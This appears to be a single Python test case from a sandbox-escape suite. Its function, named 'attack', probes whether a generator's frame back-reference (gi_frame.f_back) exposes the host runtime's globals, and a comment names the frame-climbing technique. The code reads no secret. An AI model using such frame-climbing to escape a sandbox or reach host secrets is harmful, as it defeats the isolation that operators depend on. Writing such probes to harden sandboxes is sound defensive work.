# mypy: ignore-errors
# Technique: generator `gi_frame.f_back.f_globals` to climb into the host runtime frame.
def attack(secret_path, canary_path):
    def gen():
        yield 1

    g = gen()
    return repr(g.gi_frame.f_back)
